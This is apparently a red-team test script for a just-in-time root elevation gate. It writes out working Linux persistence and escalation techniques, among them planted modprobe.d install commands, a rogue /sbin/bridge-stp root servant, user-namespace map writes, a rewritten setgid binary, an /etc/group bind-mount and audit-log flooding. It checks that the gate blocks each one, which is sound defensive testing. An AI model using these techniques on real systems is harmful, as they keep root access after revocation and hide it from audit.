#!/bin/sh
# vm-args: --modules loop,bridge --net --timeout 1200 --add /usr/bin/kmod:/usr/local/sbin/kmod
# Red team: root's power used inside an elevated session that stays with the person's plain
# processes after the revoke, through objects and settings the session does not own: her
# user and network namespaces, her processes' /proc files, system-wide knobs, inotify and
# SIGIO owners kept in flight, setgid programs, devices and mounts. Each technique is shown
# first with no gate (and, where it matters, that alice cannot do it by herself), then under
# the gate after the revoke: a check named "revoked: ..." fails while the attack works,
# except the one the bypass catalog lists as open (a network card moved into her
# namespace): it prints OPEN and is not counted.
. "${0%/*}/lib.sh"
. "${0%/*}/fixture.sh"

S=/opt/suid
RT=/usr/local/bin/jg-redteam4
mkdir -p $S /srv/r4/private
chmod 1777 /tmp
cp /usr/local/bin/jg-suid $S/jg-suid
chown root:root $S/jg-suid
chmod 4755 $S/jg-suid
echo root-only >/srv/r4/rootfile
echo root-only-w >/srv/r4/rootfile2
echo dac-secret >/srv/r4/dacfile
chmod 0600 /srv/r4/rootfile /srv/r4/rootfile2 /srv/r4/dacfile
chmod 0700 /srv/r4/private
chmod 0755 /srv/r4
grep -q '^shadow:' /etc/group || echo 'shadow:x:42:' >>/etc/group
echo shadow-secret >/srv/r4/shadowfile
chown root:42 /srv/r4/shadowfile
chmod 0640 /srv/r4/shadowfile
# a setgid program of the system (as chage or unix_chkpwd are), harmless as shipped
cp /usr/local/bin/jitgate /usr/local/bin/rt4-chage
chown root:42 /usr/local/bin/rt4-chage
chmod 2755 /usr/local/bin/rt4-chage
mkfifo /srv/r4/fifo
chmod 0666 /srv/r4/fifo
{ echo loop-secret; dd if=/dev/zero bs=4096 count=1 2>/dev/null; } >/srv/r4/loopfile
chmod 0600 /srv/r4/loopfile
modprobe loop 2>/dev/null
modprobe bridge 2>/dev/null
# the host's module loader is kmod (Debian's), as on a real host: it reads /etc/modprobe.d
ln -sf kmod /usr/local/sbin/modprobe
mkdir -p /etc/modprobe.d
echo /usr/local/sbin/modprobe >/proc/sys/kernel/modprobe
modprobe virtio_pci 2>/dev/null
modprobe virtio_net 2>/dev/null
for _ in $(seq 100); do [ -e /sys/class/net/eth0 ] && break; sleep 0.1; done
diag "network devices: $(ls /sys/class/net | tr '\n' ' ')"

# stopped NAME FILE PATTERN: passes when no line of FILE matches PATTERN (the attack's
# success line); fails, showing FILE, when one does.
# known_open NAME FILE PATTERN: a hole docs/bypass-catalog.md lists as open: printed as
# OPEN, not counted (the suite stays green while it is documented); "ok" once closed.
known_open() {
	if grep -q -e "$3" "$2"; then
		diag "OPEN (docs/bypass-catalog.md): $1: the attack worked: '$3'"
		sed 's/^/#   /' "$2"
	else
		_vm_ok "$1"
	fi
}

stopped() {
	if grep -q -e "$3" "$2"; then
		_vm_not_ok "$1" "the attack worked: '$3'" "$2"
	else
		_vm_ok "$1"
		sed 's/^/#   /' "$2"
	fi
}

# stopped_out NAME OUTPUT PATTERN: the same for a string
stopped_out() {
	printf '%s\n' "$2" >/tmp/r4.chk
	stopped "$1" /tmp/r4.chk "$3"
}

wait_line() {
	for _ in $(seq 300); do
		grep -q -e "$2" "$1" 2>/dev/null && return 0
		sleep 0.1
	done
	return 1
}

start_victim() {
	sleep 600 >/dev/null 2>&1 &
	echo $!
}

# bg_plain TAG CMD...: alice's plain process (login uid 1000) in the background, output
# in /tmp/TAG.out
bg_plain() {
	_tag=$1
	shift
	rm -f /tmp/go.$_tag /tmp/$_tag.out
	with_loginuid 1000 as_user alice "$@" >/tmp/$_tag.out 2>&1 &
}

alive() {	# no pid (nothing was started) is no process
	[ -n "$1" ] && kill -0 "$1" 2>/dev/null && echo alive || echo dead
}

# sess CMD...: the elevated session (alice, login uid 1000, root by the setuid helper)
sess() {
	with_loginuid 1000 as_user alice $S/jg-suid root "$@"
}

# sleeper TAG: a plain process of alice's, its pid in /tmp/TAG.pid (not called in a command
# substitution: ash keeps a copy of the substitution's pipe in a function's background job)
sleeper() {
	rm -f /tmp/$1.pid
	with_loginuid 1000 as_user alice setsid sh -c "echo \$\$ >/tmp/$1.pid; exec sleep 600" \
		>/dev/null 2>&1 </dev/null &
	wait_line /tmp/$1.pid .
}

GATE=
grant() {
	[ -n "$GATE" ] || return 0
	jitgate grant --user alice --allow root:elevate --for 10m --reason "INC-53 $1"
}
revoke() {
	[ -n "$GATE" ] || return 0
	jitgate revoke "$1" >/dev/null
	sleep 1
}

# ---------------------------------------------------------------- techniques
# Each takes the phase (nogate or gate) and leaves its result in /tmp/PHASE-TECH.*

# A. the full uid/gid map written into her own user namespace
t_userns() {
	bg_plain un$1 $RT userns /tmp/go.un$1 /srv/r4/rootfile /srv/r4/rootfile2
	wait_line /tmp/un$1.out '^userns '
	_pid=$(sed -n 's/^userns //p' /tmp/un$1.out)
	_g=$(grant userns)
	sess sh -c "echo '0 0 4294967295' >/proc/$_pid/uid_map && echo '0 0 4294967295' >/proc/$_pid/gid_map && echo mapped" \
		>/tmp/un$1.sess 2>&1
	diag "$1 session writes her namespace's map: $(cat /tmp/un$1.sess)"
	revoke "$_g"
	touch /tmp/go.un$1
	wait_line /tmp/un$1.out 'map='
}

# A2. the same namespace kept by a bind mount of its nsfs file: no process of hers lives
# through the revoke; a fresh one joins it afterwards
t_nsfile() {
	rm -f /tmp/go.nf$1
	touch /tmp/r4-userns.$1
	bg_plain nf$1 $RT userns /tmp/go.nf$1 /srv/r4/rootfile /srv/r4/rootfile2
	wait_line /tmp/nf$1.out '^userns '
	_pid=$(sed -n 's/^userns //p' /tmp/nf$1.out)
	_g=$(grant nsfile)
	sess sh -c "echo '0 0 4294967295' >/proc/$_pid/uid_map && echo '0 0 4294967295' >/proc/$_pid/gid_map && mount -o bind /proc/$_pid/ns/user /tmp/r4-userns.$1 && echo kept" \
		>/tmp/nf$1.sess 2>&1
	diag "$1 session maps and keeps her namespace: $(cat /tmp/nf$1.sess)"
	kill "$_pid" 2>/dev/null
	revoke "$_g"
	with_loginuid 1000 as_user alice $RT setns /tmp/r4-userns.$1 /srv/r4/rootfile >/tmp/nf$1.join 2>&1
}

# B. system-wide knobs: privileged ports for everyone, the kernel log for everyone
t_knobs() {
	_g=$(grant knobs)
	sess sh -c 'echo 0 >/proc/sys/net/ipv4/ip_unprivileged_port_start && echo 0 >/proc/sys/kernel/dmesg_restrict && echo set' \
		>/tmp/kn$1.sess 2>&1
	diag "$1 session sets the knobs: $(cat /tmp/kn$1.sess)"
	revoke "$_g"
	as_user alice $RT bind 80 >/tmp/kn$1.bind 2>&1
	as_user alice dmesg >/dev/null 2>&1 && echo dmesg=ok >>/tmp/kn$1.bind || echo dmesg=refused >>/tmp/kn$1.bind
	echo 1024 >/proc/sys/net/ipv4/ip_unprivileged_port_start
	echo 1 >/proc/sys/kernel/dmesg_restrict
}

# C. her process's OOM score and autogroup nice, written by the session
t_procfs() {
	sleeper sl$1
	_pid=$(cat /tmp/sl$1.pid)
	_g=$(grant procfs)
	sess sh -c "echo -1000 >/proc/$_pid/oom_score_adj && echo oom-written; echo -20 >/proc/$_pid/autogroup && echo autogroup-written" \
		>/tmp/pf$1.sess 2>&1
	diag "$1 session writes her /proc files: $(cat /tmp/pf$1.sess | tr '\n' ' ')"
	revoke "$_g"
	echo "oom=$(cat /proc/$_pid/oom_score_adj) autogroup=$(cat /proc/$_pid/autogroup)" >/tmp/pf$1.out
	diag "$1 her process now: $(cat /tmp/pf$1.out)"
	kill "$_pid" 2>/dev/null
}

# D. an inotify watch on root's 0700 directory, added by the session to her descriptor
t_inotify() {
	_g=$(grant inotify)
	bg_plain in$1 $RT inotify /tmp/go.in$1 $S/jg-suid root $RT watch 3 /srv/r4/private
	wait_line /tmp/in$1.out held
	revoke "$_g"
	touch /tmp/go.in$1
	sleep 0.5
	touch /srv/r4/private/name-$1
	wait_line /tmp/in$1.out 'event='
}

# E. the session's FIFO reader with a SIGKILL owner, kept in flight in her socket
t_fifo() {
	_v=$(start_victim)
	_g=$(grant fifo)
	bg_plain fo$1 $RT hold /tmp/go.fo$1 /srv/r4/fifo $S/jg-suid root $RT fifo-own /srv/r4/fifo "$_v"
	wait_line /tmp/fo$1.out sent
	revoke "$_g"
	touch /tmp/go.fo$1
	wait_line /tmp/fo$1.out fifowrite=
	sleep 1
	echo "victim=$(alive "$_v")" >>/tmp/fo$1.out
	diag "$1 fifo: $(cat /tmp/fo$1.out | tr '\n' ' ')"
	kill "$_v" 2>/dev/null
}

# F. the host's network card moved into her network namespace
t_netns() {
	bg_plain ns$1 $RT netns /tmp/go.ns$1 eth0
	wait_line /tmp/ns$1.out '^netns '
	_pid=$(sed -n 's/^netns //p' /tmp/ns$1.out)
	_g=$(grant netns)
	sess $RT move eth0 "$_pid" >/tmp/ns$1.sess 2>&1
	diag "$1 session moves eth0: $(cat /tmp/ns$1.sess)"
	revoke "$_g"
	[ -e /sys/class/net/eth0 ] && _h=host=has-eth0 || _h=host=lost-eth0
	touch /tmp/go.ns$1
	wait_line /tmp/ns$1.out 'link='
	echo "$_h" >>/tmp/ns$1.out
	# her namespace is gone with her process: the card comes back to the host
	for _ in $(seq 300); do [ -e /sys/class/net/eth0 ] && break; sleep 0.1; done
}

# G. new code in a setgid program of the system (root's CAP_FSETID keeps the bit)
t_setgid() {
	_g=$(grant setgid)
	sess sh -c "cat $RT >/usr/local/bin/rt4-chage && echo replaced" >/tmp/sg$1.sess 2>&1
	diag "$1 session rewrites the setgid program: $(cat /tmp/sg$1.sess) mode $(stat -c %a /usr/local/bin/rt4-chage)"
	revoke "$_g"
	with_loginuid 1000 as_user alice /usr/local/bin/rt4-chage cat /srv/r4/shadowfile >/tmp/sg$1.out 2>&1
	cat /usr/local/bin/jitgate >/usr/local/bin/rt4-chage
}

# H. a loop device over root's file and a block node of it with mode 0666
t_loop() {
	_n=$2
	_g=$(grant loop)
	sess sh -c "losetup /dev/loop$_n /srv/r4/loopfile && mknod -m 0666 /tmp/rt4-loop$_n b 7 $_n && echo made" \
		>/tmp/lo$1.sess 2>&1
	diag "$1 session makes the loop device and node: $(cat /tmp/lo$1.sess)"
	revoke "$_g"
	with_loginuid 1000 as_user alice head -c 11 /tmp/rt4-loop$_n >/tmp/lo$1.out 2>&1
	echo >>/tmp/lo$1.out
	losetup -d /dev/loop$_n 2>/dev/null
}

# I. root's own file made readable to everyone (and handed to her by chown); what the
# session may still do: narrow a mode, chmod and chown a file it made itself
t_dac() {
	_g=$(grant dac)
	sess sh -c "chmod 0666 /srv/r4/dacfile; echo chmod=\$?; chown alice /srv/r4/rootfile2; echo chown=\$?; chmod 0400 /srv/r4/rootfile2; echo narrow=\$?; echo mine >/srv/r4/mine-$1; chmod 0644 /srv/r4/mine-$1; echo minechmod=\$?; chown alice /srv/r4/mine-$1; echo minechown=\$?; mkdir /srv/r4/dir-$1; chmod 0755 /srv/r4/dir-$1; echo minedir=\$?" \
		>/tmp/da$1.sess 2>&1
	diag "$1 session's modes: $(cat /tmp/da$1.sess | tr '\n' ' ')"
	revoke "$_g"
	with_loginuid 1000 as_user alice cat /srv/r4/dacfile >/tmp/da$1.out 2>&1
	echo "owner=$(stat -c %U /srv/r4/rootfile2)" >>/tmp/da$1.out
	chmod 0600 /srv/r4/dacfile /srv/r4/rootfile2
	chown root /srv/r4/rootfile2
}

# O. descriptors of her plain process taken into the session with pidfd_getfd
t_take() {	# PHASE KIND
	rm -f /tmp/ah-$2.$1
	bg_plain ah$2$1 $RT anon-hold $2 /tmp/ah-$2.$1
	wait_line /tmp/ah-$2.$1 .
	_g=$(grant take)
	sess $RT take /tmp/ah-$2.$1 >/tmp/tk$2$1.out 2>&1
	revoke "$_g"
	kill "$(cut -d' ' -f1 /tmp/ah-$2.$1)" 2>/dev/null
}

# J. her own file bind-mounted over /etc/group (jitgated's admin groups)
t_group() {
	cp /etc/group /home/alice/group-$1
	chown alice /home/alice/group-$1
	_g=$(grant group)
	sess mount -o bind /home/alice/group-$1 /etc/group >/tmp/gr$1.sess 2>&1
	diag "$1 session bind-mounts her file over /etc/group: exit $? $(cat /tmp/gr$1.sess)"
	revoke "$_g"
	as_user alice sh -c "sed 's/^jitgate-admins:x:2002:carol\$/jitgate-admins:x:2002:carol,alice/' /home/alice/group-$1 >/tmp/g2-$1 && cat /tmp/g2-$1 >/home/alice/group-$1"
	grep '^jitgate-admins' /etc/group >/tmp/gr$1.out
}

# K. EPOLLWAKEUP on her epoll descriptor (CAP_BLOCK_SUSPEND)
t_epoll() {
	_g=$(grant epoll)
	bg_plain ep$1 $RT epoll /tmp/go.ep$1 $S/jg-suid root $RT epctl
	wait_line /tmp/ep$1.out held
	revoke "$_g"
	touch /tmp/go.ep$1
	wait_line /tmp/ep$1.out 'wakeup='
}

# N. an install command in /etc/modprobe.d: the kernel's module autoload runs it as root (no
# login uid) whenever anyone asks for the module; a plain socket() of a family with no
# module is enough, as often as she likes
t_modprobe() {
	rm -f /tmp/mp.$1
	_g=$(grant modprobe)
	sess sh -c "echo 'install net-pf-$2 /bin/sh -c \"id -u >/tmp/mp.$1; cat /proc/self/loginuid /srv/r4/rootfile >>/tmp/mp.$1; chmod 0644 /tmp/mp.$1\"' >/etc/modprobe.d/r4-$1.conf && echo planted" \
		>/tmp/mp$1.sess 2>&1
	diag "$1 session plants an install command: $(cat /tmp/mp$1.sess)"
	revoke "$_g"
	with_loginuid 1000 as_user alice $RT sock "$2" >/tmp/mp$1.out 2>&1
	wait_line /tmp/mp.$1 root-only
	with_loginuid 1000 as_user alice cat /tmp/mp.$1 >>/tmp/mp$1.out 2>&1
	diag "$1 after her socket(): $(cat /tmp/mp$1.out | tr '\n' ' ')"
}

# A3. A and N chained: the session only writes the map; after the revoke her namespace's
# capabilities write the install command themselves and her socket() has automation run it
t_chain() {
	rm -f /tmp/ch.$1
	bg_plain ch$1 $RT userns-put /tmp/go.ch$1 /etc/modprobe.d/r4-chain-$1.conf \
		"install net-pf-$2 /bin/sh -c 'id -u >/tmp/ch.$1; cat /proc/self/loginuid /srv/r4/rootfile >>/tmp/ch.$1; chmod 0644 /tmp/ch.$1'"
	wait_line /tmp/ch$1.out '^userns '
	_pid=$(sed -n 's/^userns //p' /tmp/ch$1.out)
	_g=$(grant chain)
	sess sh -c "echo '0 0 4294967295' >/proc/$_pid/uid_map && echo '0 0 4294967295' >/proc/$_pid/gid_map" >/dev/null 2>&1
	revoke "$_g"
	touch /tmp/go.ch$1
	wait_line /tmp/ch$1.out 'put='
	with_loginuid 1000 as_user alice $RT sock "$2" >>/tmp/ch$1.out 2>&1
	wait_line /tmp/ch.$1 root-only
	with_loginuid 1000 as_user alice cat /tmp/ch.$1 >>/tmp/ch$1.out 2>&1
	diag "$1 chain: $(cat /tmp/ch$1.out | tr '\n' ' ')"
}

# M. a kernel helper that is missing: the kernel runs /sbin/bridge-stp as root (no login uid,
# no session) when STP starts on a bridge of the host's network namespace. The session puts
# one there; it leaves a root servant that runs the commands alice drops in a file.
t_stp() {
	rm -f /tmp/r4-cmd.$1 /tmp/r4-res.$1 /tmp/stp.$1 /tmp/stp-servant.$1
	cat >/tmp/stp-helper.$1 <<HELPER
#!/bin/sh
PATH=/sbin:/bin:/usr/sbin:/usr/bin:/usr/local/bin
echo "uid=\$(id -u) loginuid=\$(cat /proc/self/loginuid)" >/tmp/stp.$1
(while :; do
	if [ -f /tmp/r4-cmd.$1 ]; then sh /tmp/r4-cmd.$1 >/tmp/r4-res.$1 2>&1; rm -f /tmp/r4-cmd.$1; fi
	sleep 0.5
done) </dev/null >/dev/null 2>&1 &
echo \$! >/tmp/stp-servant.$1
exit 1
HELPER
	_g=$(grant stp)
	sess sh -c "cat /tmp/stp-helper.$1 >/sbin/bridge-stp && chmod 0755 /sbin/bridge-stp && brctl addbr br$1 && echo 1 >/sys/class/net/br$1/bridge/stp_state && echo stp-on" \
		>/tmp/stp$1.sess 2>&1
	diag "$1 session plants /sbin/bridge-stp and starts STP: $(cat /tmp/stp$1.sess | tr '\n' ' ')"
	revoke "$_g"
	wait_line /tmp/stp.$1 uid=
	diag "$1 the helper ran as: $(cat /tmp/stp.$1 2>/dev/null)"
	with_loginuid 1000 as_user alice sh -c "echo 'cat /srv/r4/rootfile' >/tmp/r4-cmd.$1"
	wait_line /tmp/r4-res.$1 .
	with_loginuid 1000 as_user alice cat /tmp/r4-res.$1 >/tmp/stp$1.out 2>&1
	echo "servant=$(alive "$(cat /tmp/stp-servant.$1 2>/dev/null)")" >>/tmp/stp$1.out
}

# ---------------------------------------------------------------- alone
diag "alice alone"
expect_eq "alone: alice cannot write a full map into her own user namespace" \
	"$(as_user alice $RT selfmap)" "selfmap=EPERM"
expect_eq "alone: alice cannot read root's 0600 file" "$(as_user alice $RT cat /srv/r4/rootfile)" "cat=EACCES egid=1000"
expect_eq "alone: alice cannot bind port 80" "$(as_user alice $RT bind 80)" "bind=EACCES"
fails "alone: alice cannot read the kernel log" as_user alice dmesg
sleeper alone
p=$(cat /tmp/alone.pid)
fails "alone: alice cannot lower her oom_score_adj to -1000" as_user alice sh -c "echo -1000 >/proc/$p/oom_score_adj"
fails "alone: alice cannot set her autogroup's nice to -20" as_user alice sh -c "echo -20 >/proc/$p/autogroup"
kill "$p"
expect_eq "alone: alice cannot watch root's 0700 directory" "$(as_user alice $RT watch -1 /srv/r4/private)" "watch=EACCES"
expect_eq "alone: alice cannot move a network card" "$(as_user alice $RT move eth0 1)" "move=EPERM"
expect_eq "alone: alice's own EPOLLWAKEUP is dropped" "$(touch /tmp/go.epa; as_user alice $RT epoll /tmp/go.epa $RT epctl | tail -n1)" "wakeup=no"
expect_eq "alone: alice cannot read the shadow group's file" \
	"$(as_user alice $RT cat /srv/r4/shadowfile)" "cat=EACCES egid=1000"

# ---------------------------------------------------------------- no gate
diag "no gate: root (setuid helper) does it for her"
t_userns nogate
ok "no gate: her user namespace with root's map reads and writes root's 0600 files" \
	grep -q 'read=ok write=ok' /tmp/unnogate.out
t_nsfile nogate
ok "no gate: a fresh process of hers joins the kept namespace and reads root's 0600 file" \
	grep -q 'setns=ok read=ok' /tmp/nfnogate.join
umount /tmp/r4-userns.nogate 2>/dev/null
t_knobs nogate
ok "no gate: alice binds port 80 after root's ip_unprivileged_port_start" grep -q 'bind=ok' /tmp/knnogate.bind
ok "no gate: alice reads the kernel log after root's dmesg_restrict" grep -q 'dmesg=ok' /tmp/knnogate.bind
t_procfs nogate
ok "no gate: her process keeps oom_score_adj -1000 and autogroup nice -20" \
	grep -q 'oom=-1000 autogroup=.*nice -20' /tmp/pfnogate.out
t_inotify nogate
ok "no gate: her inotify descriptor reports names created in root's 0700 directory" \
	grep -q 'event=name-nogate' /tmp/innogate.out
t_take nogate inotify
ok "no gate: the session takes her inotify descriptor (pidfd_getfd)" grep -q 'take=ok' /tmp/tkinotifynogate.out
t_take nogate epoll
ok "no gate: the session takes her epoll descriptor (pidfd_getfd)" grep -q 'take=ok' /tmp/tkepollnogate.out
t_fifo nogate
ok "no gate: her write into the FIFO kills root's process (owner in flight)" \
	grep -q 'victim=dead' /tmp/fonogate.out
t_netns nogate
ok "no gate: the host's eth0 is in her network namespace, hers to bring up" \
	grep -q 'link=present up=ok' /tmp/nsnogate.out
ok "no gate: and gone from the host" grep -q 'host=lost-eth0' /tmp/nsnogate.out
t_setgid nogate
ok "no gate: the rewritten setgid program runs her code as group shadow" \
	grep -q 'cat=ok egid=42 shadow-secret' /tmp/sgnogate.out
t_loop nogate 5
ok "no gate: she reads root's 0600 file through the loop device node" grep -q 'loop-secret' /tmp/lonogate.out
t_dac nogate
ok "no gate: she reads root's file made 0666" grep -q 'dac-secret' /tmp/danogate.out
ok "no gate: root's file is hers by chown" grep -q 'owner=alice' /tmp/danogate.out
t_epoll nogate
ok "no gate: her epoll item keeps EPOLLWAKEUP set by root" grep -q 'wakeup=yes' /tmp/epnogate.out
t_group nogate
ok "no gate: /etc/group is her file: she puts herself in jitgate-admins" \
	grep -q 'jitgate-admins:x:2002:carol,alice' /tmp/grnogate.out
umount /etc/group 2>/dev/null
t_modprobe nogate 5
ok "no gate: her socket() has root (automation) run the planted install command: root's file" \
	grep -q 'root-only' /tmp/mpnogate.out
rm -f /etc/modprobe.d/r4-nogate.conf
t_chain nogate 12
ok "no gate: after root's map her namespace writes modprobe.d and automation runs it for her" \
	grep -q 'root-only' /tmp/chnogate.out
rm -f /etc/modprobe.d/r4-chain-nogate.conf
t_stp nogate
ok "no gate: the planted bridge-stp leaves a root servant: she reads root's 0600 file" \
	grep -q 'root-only' /tmp/stpnogate.out
kill "$(cat /tmp/stp-servant.nogate)" 2>/dev/null
rm -f /sbin/bridge-stp
brctl delbr brnogate 2>/dev/null
grep -q alice /etc/group && diag "/etc/group after umount: $(grep jitgate-admins /etc/group)"

# ---------------------------------------------------------------- the gate
cat >/tmp/policy-r4.json <<EOF
{
  "version": 1,
  "resources": {
    "root": { "description": "becoming root", "elevate": {} },
    "prod-secrets": { "files": ["/srv/prod/secrets"] }
  }
}
EOF
echo '{ "admin_groups": ["jitgate-admins"] }' >/tmp/jitgated-r4.json
make_tree
start_daemon /tmp/policy-r4.json --config /tmp/jitgated-r4.json || finish
GATE=1

t_userns gate
stopped "revoked: her user namespace with root's map does not read root's 0600 file" \
	/tmp/ungate.out 'read=ok'
stopped "revoked: nor write root's 0600 file" /tmp/ungate.out 'write=ok'
t_nsfile gate
stopped "revoked: no fresh process of hers joins a kept namespace with root's map and reads root's file" \
	/tmp/nfgate.join 'read=ok'
t_knobs gate
stopped "revoked: alice does not bind port 80 (ip_unprivileged_port_start)" /tmp/kngate.bind 'bind=ok'
stopped "revoked: alice does not read the kernel log (dmesg_restrict)" /tmp/kngate.bind 'dmesg=ok'
t_procfs gate
stopped "revoked: her process does not keep oom_score_adj -1000" /tmp/pfgate.out 'oom=-1000'
stopped "revoked: her process does not keep autogroup nice -20" /tmp/pfgate.out 'nice -20'
t_inotify gate
stopped "revoked: her inotify descriptor does not report names in root's 0700 directory" \
	/tmp/ingate.out 'event=name-gate'
wait_audit 10 "take an inotify descriptor from outside" >/dev/null
audit_has "audit: tamper.deny for the elevation holding her inotify descriptor (fd 3)" \
	'"tamper.deny"' "take an inotify descriptor from outside into an elevated session" '"fd":3'
t_take gate inotify
expect_eq "the session does not take her inotify descriptor (pidfd_getfd)" \
	"$(cat /tmp/tkinotifygate.out)" take=EPERM
t_take gate epoll
expect_eq "the session does not take her epoll descriptor (pidfd_getfd)" \
	"$(cat /tmp/tkepollgate.out)" take=EPERM
wait_audit 10 "take an epoll descriptor from outside" >/dev/null
audit_has "audit: tamper.deny for the epoll descriptor taken in" \
	'"tamper.deny"' "take an epoll descriptor from outside into an elevated session"
t_fifo gate
stopped "revoked: her write into the FIFO does not kill root's process" /tmp/fogate.out 'victim=dead'
t_netns gate
known_open "revoked: the host's eth0 is not in her network namespace" /tmp/nsgate.out 'link=present'
g=$(grant link)
expect_eq "a session still changes a link in place (RTM_NEWLINK, no namespace)" "$(sess $RT move lo 0)" move=ok
revoke "$g"
t_setgid gate
stopped "revoked: the setgid program does not run her code as group shadow" \
	/tmp/sggate.out 'cat=ok egid=42'
t_loop gate 6
stopped "revoked: she does not read root's file through a loop device node" /tmp/logate.out 'loop-secret'
t_dac gate
stopped "revoked: she does not read root's file the session made 0666" /tmp/dagate.out 'dac-secret'
ok "the session's chmod 0666 of root's file is refused" grep -q 'chmod=1' /tmp/dagate.sess
ok "the session's chown of root's file to her is refused" grep -q 'chown=1' /tmp/dagate.sess
stopped "revoked: root's file is not hers" /tmp/dagate.out 'owner=alice'
ok "the session narrows root's file's mode" grep -q 'narrow=0' /tmp/dagate.sess
ok "the session chmods and chowns a file it made" sh -c "grep -q 'minechmod=0' /tmp/dagate.sess && grep -q 'minechown=0' /tmp/dagate.sess"
ok "the session chmods a directory it made" grep -q 'minedir=0' /tmp/dagate.sess
wait_audit 10 "widen the mode" >/dev/null
audit_has "audit: tamper.deny for the chmod, naming the file and the mode" \
	'"tamper.deny"' "widen the mode, owner or ACL of a file an elevated session did not create" 'dacfile' '"mode":438'
audit_has "audit: tamper.deny for the chown, naming the file" \
	'"tamper.deny"' "widen the mode, owner or ACL" 'rootfile2' '"change":"owner"'
t_epoll gate
stopped "revoked: her epoll item does not keep root's EPOLLWAKEUP" /tmp/epgate.out 'wakeup=yes'
# L. the session's own exec kept off the record: the priority ring flooded with refusals
g=$(grant flood)
sess /bin/echo r4-marker-calm >/dev/null 2>&1
sess $RT flood 6 r4-marker-flood >/tmp/fl.out 2>&1
diag "flood: $(cat /tmp/fl.out | tr '\n' ' ')"
revoke "$g"
wait_audit 30 r4-marker-calm >/dev/null
ok "audit: with no flood the session's exec is on the record" grep -q 'r4-marker-calm' "$AUDIT"
wait_audit 30 r4-marker-flood >/dev/null
diag "lost: $(grep -F '"audit.lost"' "$AUDIT" | tail -n 2 | cut -c1-250 | tr '\n' ' ')"
ok "audit: a flood of the session's own refusals does not keep its exec off the record" \
	grep -q 'r4-marker-flood' "$AUDIT"
t_group gate
if with_loginuid 1000 as_user alice jitgate grant --user alice --allow gate-admin:admin --for 5m \
	--reason "INC-53 admin" >/tmp/grgate.grant 2>&1; then
	echo granted >>/tmp/grgate.grant
fi
stopped "revoked: /etc/group is not hers: she grants herself no gate-admin" /tmp/grgate.grant granted
stopped "revoked: /etc/group does not name her in jitgate-admins" /tmp/grgate.out 'carol,alice'
t_modprobe gate 9
stopped "revoked: her socket() does not have automation run the session's install command" \
	/tmp/mpgate.out 'root-only'
t_chain gate 13
stopped "revoked: her namespace does not write modprobe.d for automation to run (map, then nothing planted by the session)" \
	/tmp/chgate.out 'root-only'
t_stp gate
stopped "revoked: no root servant from the planted bridge-stp reads root's file for her" \
	/tmp/stpgate.out 'root-only'
stopped "revoked: no root process from the session's kernel helper lives on" \
	/tmp/stpgate.out 'servant=alive'
if grep -q 'servant=alive' /tmp/stpgate.out; then
	# the servant is the host's automation: it may unload the gate
	rm -f /tmp/r4-res.gate
	with_loginuid 1000 as_user alice sh -c "echo '/usr/local/bin/jitgate unload' >/tmp/r4-cmd.gate"
	wait_line /tmp/r4-res.gate .
	sleep 2
	diag "her unload through the servant: $(cat /tmp/r4-res.gate | tr '\n' ' ')"
fi
fails "after all of it the gate still denies alice the protected secret" \
	with_loginuid 1000 as_user alice cat /srv/prod/secrets/db.pw

settle
grep -F '"tamper.deny"' "$AUDIT" | tail -n 8 | cut -c1-300 | sed 's/^/#   /'
finish
